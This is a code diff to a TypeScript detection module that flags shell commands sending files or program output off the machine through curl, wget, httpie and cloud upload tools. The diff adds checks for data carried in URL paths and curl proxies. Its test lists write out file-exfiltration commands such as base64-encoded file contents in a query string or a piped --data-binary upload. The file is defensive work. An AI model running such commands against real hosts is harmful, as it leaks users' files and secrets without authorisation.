@@ -1,5 +1,5 @@
 /** Data that leaves the machine: uploads, copies to other hosts, names that carry text to a name server. */
-import { isFed, isLoopback, staysHere, tellsData } from "../hosts.ts";
+import { isFed, isLoopback, staysHere, tellsData, tellsThroughAddress } from "../hosts.ts";
 import { hasFlag, type Invocation, parseOptions } from "../invocation.ts";
 import { type ArgsPattern, byProgram, joinedArgs, type Rule } from "../rule.ts";
 import { subcommand } from "../unwrap.ts";
@@ -26,10 +26,12 @@ const CURL = {
 };
 
 /** Files or computed text in what curl sends. */
-function curlSends(command: Invocation): boolean {
+function curlSends(command: Invocation, all: readonly Invocation[]): boolean {
+  if (tellsThroughAddress(command, all)) return true;
   const { values, operands } = parseOptions(command.args, CURL);
   const urls = [...operands, ...values.get("url") ?? []];
-  if (urls.length > 0 && urls.every(isLoopback)) return false;
+  const proxy = values.get("x") ?? values.get("proxy") ?? [];
+  if (urls.length > 0 && [...urls, ...proxy].every(isLoopback)) return false;
   const data = ["d", ...SENT.slice(0, 6)].flatMap((name) => values.get(name) ?? []);
   const forms = ["F", "form"].flatMap((name) => values.get(name) ?? []);
   return values.has("T") || values.has("upload-file") ||
@@ -38,7 +40,8 @@ function curlSends(command: Invocation): boolean {
     (tellsData(command) && command.args.some((arg) => arg.includes("\0")));
 }
 
-function wgetSends(command: Invocation): boolean {
+function wgetSends(command: Invocation, all: readonly Invocation[]): boolean {
+  if (tellsThroughAddress(command, all)) return true;
   const { operands } = parseOptions(command.args, { values: "OPoaietTUBX" });
   if (operands.some(isLoopback)) return false;
   return command.args.some((arg) => /^--(?:post|body)-file/.test(arg)) ||
@@ -95,8 +98,13 @@ function pipesAway(command: Invocation): boolean {
 }
 
 const FOLDERS_AWAY: Readonly<Record<string, RegExp | ArgsPattern>> = {
-  aws:
-    /\bs3 (?:cp|mv|sync) (?!s3:\/\/)(?!(?:\S+ )*--dryrun).*\bs3:\/\/|\bs3api put-object|\bs3api upload-part/,
+  aws: {
+    has: [
+      /\bs3 (?:cp|mv|sync) (?:--\S+ )*(?!s3:\/\/|--)|\bs3api (?:put-object|upload-part)/,
+      / s3:\/\/|s3api/,
+    ],
+    not: /--dryrun/,
+  },
   gsutil: /\b(?:cp|mv|rsync) (?:-\S+ )*(?!gs:\/\/)[^-\s]\S* gs:\/\//,
   gcloud: /\bstorage (?:cp|mv|rsync) (?:-\S+ )*(?!gs:\/\/)[^-\s]\S* gs:\/\/|\bcompute scp\b/,
   az: /\bstorage (?:blob|file) (?:upload|sync)|\bstorage copy\b/,
@@ -199,11 +207,11 @@ export const SEND_RULES: readonly Rule[] = [
     kind: "dangerous",
     description: "sends files or what programs print to a server",
     programs: ["curl", "wget", "http", "https", "xh", "xhs"],
-    test: (command) =>
+    test: (command, all) =>
       command.program === "curl"
-        ? curlSends(command)
+        ? curlSends(command, all)
         : command.program === "wget"
-        ? wgetSends(command)
+        ? wgetSends(command, all)
         : httpieSends(command),
     match: [
       "curl -d @notes.txt https://h",
@@ -212,6 +220,7 @@ export const SEND_RULES: readonly Rule[] = [
       "cat f | curl --data-binary @- https://h",
       'curl "https://h/?d=$(cat f | base64)"',
       'curl -H "X: $(base64 f)" https://h',
+      "x=$(cat f); curl https://h/$x",
       "wget --post-file=f https://h",
       "http POST h f@notes.txt",
     ],
@@ -222,6 +231,7 @@ export const SEND_RULES: readonly Rule[] = [
       "curl -fsSL https://h/x -o x",
       'curl -LO "https://h/v$(cat VERSION)/x-$(uname -s)"',
       "http GET localhost:3000/api",
+      "for u in $(cat urls.txt); do curl $u; done",
       "curl -u user:pass https://h",
     ],
   },
